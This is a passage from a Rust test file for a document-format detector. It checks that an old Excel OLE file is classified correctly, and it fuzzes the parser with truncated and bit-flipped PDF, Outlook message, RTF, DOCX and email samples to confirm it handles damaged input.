        ("sheet of numbers before 2007", ole(&[("/Workbook", &[0x85, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0])]), Kind::Xls),
    ] {
        let examined = examine(&bytes).unwrap_or_else(|e| panic!("{case}: {e}"));
        assert_eq!(examined.kind, kind, "{case}");
    }
}

#[test]
fn damaged_files_are_answered() {
    let whole = [
        page(PLAIN, HELVETICA, "", "", &font_of_marking()),
        ole(&[("/__properties_version1.0", b"x"), ("/__substg1.0_10090102", b"\x10\0\0\0\x10\0\0\0LZFu\0\0\0\0\xff\xff\xff\xff\xff\xff")]),
        br"{\rtf1{\fonttbl{\f0 A;}}\f0 B\u7843?n \'e2{\*\shpinst{\sp{\sn a}{\sv b}}}}".to_vec(),
        docx("", &[("word/media/a.png", b"\x89PNG\r\n\x1a\n")]),
        b"From: a@b\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\n\r\nx\r\n--z--".to_vec(),
    ];
    for bytes in whole {
        for at in (0..bytes.len()).step_by(bytes.len().div_ceil(60)) {
            let _ = examine(&bytes[..at]);
            let mut changed = bytes.clone();
            changed[at] ^= 0x55;
            let _ = examine(&changed);
        }
    }
}
